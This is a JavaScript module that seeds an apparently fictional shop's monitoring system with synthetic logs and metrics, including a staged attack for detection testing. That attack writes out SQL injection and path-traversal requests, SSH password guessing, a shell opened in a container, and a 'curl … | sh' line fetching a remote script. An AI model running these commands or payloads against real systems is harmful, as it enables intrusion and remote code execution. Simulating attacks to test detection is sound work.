// What other systems tell beside the services: access logs, log-ins, a backup job, machines and their metrics; and an attack.

import { DAY, ENVIRONMENTS, HOUR, MINUTE, REGISTRY, SECOND, SERVICES, podOf } from "./shop.mjs";
import { busy } from "./requests.mjs";

const HOSTS = [...ENVIRONMENTS.production.nodes, ...ENVIRONMENTS.staging.nodes];
/** Where the attack comes from, and through which account. */
export const ATTACKER = "203.0.113.77";
const GUESSED = ["admin", "oracle", "git", "test", "postgres", "deploy"];

/** Its disk will be full within hours. */
export const FULL_DISK = "node-1";

const PAGES = [["GET", "/", 200, 30], ["GET", "/p/1042", 200, 26], ["GET", "/search?q=lamp", 200, 18], ["POST", "/cart", 201, 9], ["GET", "/assets/app.js", 304, 12], ["POST", "/checkout", 201, 5], ["POST", "/login", 200, 4], ["POST", "/login", 401, 0.4], ["GET", "/old/offers", 404, 1.2], ["POST", "/checkout", 500, 0.5]];
const AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15", "Googlebot/2.1 (+http://www.google.com/bot.html)"];

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** A request as a shipper sends it: the line of the web server, and what it means. */
function line(at, client, method, target, status, bytes, agent) {
  const date = new Date(at);
  const two = (number) => String(number).padStart(2, "0");
  const stamp = `${two(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())} +0000`;
  const [path, query] = target.split("?");
  return JSON.stringify({
    "@timestamp": date.toISOString(), "service.name": "gateway", "host.name": "edge-1", "deployment.environment.name": "production",
    message: `${client} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`,
    "client.address": client, "http.request.method": method, "url.path": path, ...(query ? { "url.query": query } : {}),
    "http.response.status_code": status, "http.response.body.size": bytes, "user_agent.original": agent, "network.protocol.version": "1.1",
  });
}

function visits(random, from, until, count) {
  const lines = [];
  for (let number = 0; number < count; number++) {
    const at = from + ((until - from) * number) / count;
    const [method, path, status] = random.weighted(PAGES.map((page) => [page, page[3]]));
    const client = `${random.pick(["192.0.2", "198.51.100"])}.${random.int(90) + 1}`;
    lines.push(line(at, client, method, path, status, 300 + random.int(40_000), random.pick(AGENTS)));
  }
  return lines;
}

/** Somebody tries paths, then SQL, then guesses a log-in until one works. */
function probing(random, at) {
  const lines = [];
  const say = (method, path, status) => lines.push(line((at += random.between(0.4, 2.5) * SECOND), ATTACKER, method, path, status, 180, "python-requests/2.32.5"));
  for (let number = 0; number < 34; number++) say("GET", `/${random.pick(["admin", "backup", ".git", "wp", "old", "test", "api"])}/${random.hex(4)}`, 404);
  say("GET", "/search?q=1%27%20OR%20%271%27=%271", 200);
  say("GET", "/search?q=lamp%27%20UNION%20SELECT%20login,hash%20FROM%20accounts--", 500);
  say("GET", "/static/..%2f..%2f..%2fetc/passwd", 400);
  for (let number = 0; number < 14; number++) say("POST", "/login", 401);
  say("POST", "/login", 200);
  return lines;
}

const sshd = (at, host, body, user, address) => ({ at, severity: body.startsWith("Accepted") ? "INFO" : "WARN", body, attributes: { "syslog.appname": "sshd", "syslog.facility": "authpriv", "host.name": host, "user.name": user, "source.address": address } });

function logins(random, from, until) {
  const records = [];
  for (let at = from; at < until; at += random.between(1.5, 5) * HOUR) {
    const host = random.pick(["bastion-1", "node-1", "node-3"]);
    records.push(sshd(at, host, `Accepted publickey for operator-${random.int(4)} from 192.0.2.${10 + random.int(5)} port ${40000 + random.int(9000)} ssh2`, "operator", `192.0.2.${10 + random.int(5)}`));
  }
  return records;
}

function guessing(at) {
  const records = [];
  for (let number = 0; number < 22; number++) {
    const user = GUESSED[number % GUESSED.length];
    records.push(sshd((at += 4 * SECOND), "bastion-1", `Failed password for ${user} from ${ATTACKER} port ${40000 + number} ssh2`, user, ATTACKER));
  }
  records.push(sshd(at + 9 * SECOND, "bastion-1", `Accepted password for deploy from ${ATTACKER} port 40100 ssh2`, "deploy", ATTACKER));
  return records;
}

const started = (at, host, user, executable, command, parent, more = {}) => ({
  at, severity: "INFO", body: `process started: ${command}`,
  attributes: { "event.category": ["process"], "event.type": ["start"], "host.name": host, "host.os.type": "linux", "user.name": user, "process.executable": executable, "process.command_line": command, "process.parent.executable": parent, ...more },
});

const VICTIM = podOf("mailer", "production", SERVICES.mailer.versions.at(-1)[0], 0);

function intrusion(at) {
  const container = { "container.id": VICTIM.container, "container.image.name": `${REGISTRY}/mailer` };
  return [
    started(at, "bastion-1", "deploy", "/usr/bin/kubectl", `kubectl exec -it ${VICTIM.pod} -- sh`, "/usr/bin/bash"),
    started(at + 2 * SECOND, VICTIM.node, "root", "/bin/sh", "sh", "/usr/bin/runc", container),
    started(at + 31 * SECOND, VICTIM.node, "root", "/bin/sh", "sh -c curl -fsSL http://203.0.113.9/i.sh | sh", "/bin/sh", container),
  ];
}

/** What the cluster's API says of the same shell. */
const audit = (at) => ({
  at, severity: "INFO",
  body: { apiVersion: "audit.k8s.io/v1", kind: "Event", auditID: "5f0c1b7e", stage: "ResponseStarted", verb: "create", requestURI: `/api/v1/namespaces/shop/pods/${VICTIM.pod}/exec?command=sh&stdin=true&tty=true`, user: { username: "deploy@example.org" }, objectRef: { resource: "pods", namespace: "shop", name: VICTIM.pod, subresource: "exec" }, responseStatus: { code: 101 } },
});

function machines(random, now, host, index) {
  const series = { cpu: [], memory: [], disk: [] };
  const fill = host === FULL_DISK ? 0.0022 : 0.00002;
  for (let at = now - DAY; at <= now - 5 * SECOND; at += at < now - 8 * HOUR ? 10 * MINUTE : MINUTE) {
    const load = 0.15 + 0.35 * busy(at) + random.between(0, 0.1) + index * 0.02;
    series.cpu.push({ at, value: 1 - load, attributes: { "cpu.mode": "idle" } }, { at, value: load * 0.8, attributes: { "cpu.mode": "user" } }, { at, value: load * 0.2, attributes: { "cpu.mode": "system" } });
    series.memory.push({ at, value: 0.55 + 0.1 * busy(at) + random.between(0, 0.02), attributes: { "system.memory.state": "used" } });
    const used = Math.min(0.93, 0.62 + fill * Math.max(0, (at - (now - 2.2 * HOUR)) / MINUTE));
    series.disk.push({ at, value: used, attributes: { "system.filesystem.mountpoint": "/var/lib/containerd", "system.filesystem.mode": "rw" } });
  }
  return [{ name: "system.cpu.utilization", points: series.cpu }, { name: "system.memory.utilization", points: series.memory }, { name: "system.filesystem.utilization", points: series.disk }];
}

/** A queue that nobody reads fast enough, and a certificate that ends in nine days. */
function others(random, now) {
  const lag = [];
  const certificate = [];
  for (let at = now - 3 * HOUR; at < now - 5 * SECOND; at += MINUTE) {
    const behind = Math.max(0, 6000 - (now - at) / SECOND);
    lag.push({ at, value: Math.round(behind + random.between(5, 60)), attributes: { group: "mailer", topic: "orders", partition: 0 } });
    if (at % (10 * MINUTE) < MINUTE) certificate.push({ at, value: 9 * 86_400 - (at - now) / SECOND, attributes: { "tlscheck.target": "shop.example:443", "tlscheck.x509.cn": "shop.example" } });
  }
  return [{ name: "kafka.consumer_group.lag", unit: "{messages}", points: lag }, { name: "tlscheck.time_left", unit: "s", points: certificate }];
}

function backups(random, now) {
  const records = [];
  for (let ago = 7; ago >= 0; ago--) {
    const at = now - ago * DAY - 6 * HOUR;
    for (const name of ["orders-db", "payments-db", "accounts-db"]) {
      // That of accounts ended three days ago, and nobody noticed.
      if (name === "accounts-db" && ago < 3) continue;
      records.push({ at, event: "backup.completed", severity: "INFO", body: `backup completed: ${name}, ${(4 + random.next() * 9).toFixed(1)} GB`, attributes: { "backup.name": name } });
    }
  }
  return records;
}

export async function sendSystems({ door, otlp, random, now, days, say }) {
  const access = random.fork("access");
  for (let day = days; day > 0; day--) {
    const lines = visits(access, now - day * DAY, now - (day - 1) * DAY - (day === 1 ? HOUR : 0), 700);
    await door.send("/api/v1/ingest/json", `${lines.join("\n")}\n`, "application/x-ndjson");
  }
  await door.send("/api/v1/ingest/json", `${visits(access, now - HOUR, now - SECOND, 900).join("\n")}\n`, "application/x-ndjson");
  for (const [index, host] of HOSTS.entries()) await otlp.gauges({ "host.name": host, "os.type": "linux" }, machines(random.fork(host), now, host, index));
  await otlp.gauges({ "service.name": "collector", "service.version": "0.139.0" }, others(random, now));
  await otlp.logs({ "service.name": "backup", "host.name": "stage-1" }, backups(random, now));
  await otlp.logs({ "service.name": "sshd" }, logins(random.fork("logins"), now - days * DAY, now - 40 * MINUTE));
  say(`access logs, log-ins, backups, metrics of ${HOSTS.length} machines`);
}

/** What goes on meanwhile: visits, and how the machines do. */
export async function beat({ door, otlp, random }, from, until) {
  await door.send("/api/v1/ingest/json", `${visits(random, from, until, Math.ceil((until - from) / 4_000)).join("\n")}\n`, "application/x-ndjson");
  for (const [index, host] of HOSTS.entries()) {
    const load = 0.15 + 0.35 * busy(until) + random.between(0, 0.1) + index * 0.02;
    const point = (value, attributes) => [{ at: until, value, attributes }];
    await otlp.gauges({ "host.name": host, "os.type": "linux" }, [
      { name: "system.cpu.utilization", points: point(1 - load, { "cpu.mode": "idle" }) },
      { name: "system.memory.utilization", points: point(0.6 + random.between(0, 0.02), { "system.memory.state": "used" }) },
    ]);
  }
}

/** In the order of its times and just before now: what is more than five minutes late, rules that count over time leave out. */
export async function attack({ door, otlp, random, now, say }) {
  await door.send("/api/v1/ingest/json", `${probing(random, now - 260 * SECOND).join("\n")}\n`, "application/x-ndjson");
  await otlp.logs({ "service.name": "sshd" }, guessing(now - 180 * SECOND));
  await otlp.logs({ "service.name": "execsnoop" }, intrusion(now - 50 * SECOND));
  await otlp.logs({ "service.name": "kube-apiserver", "k8s.cluster.name": "shop-prod" }, [audit(now - 49 * SECOND)]);
  say("an attack: paths, SQL, guessed log-ins, a shell in a container");
}
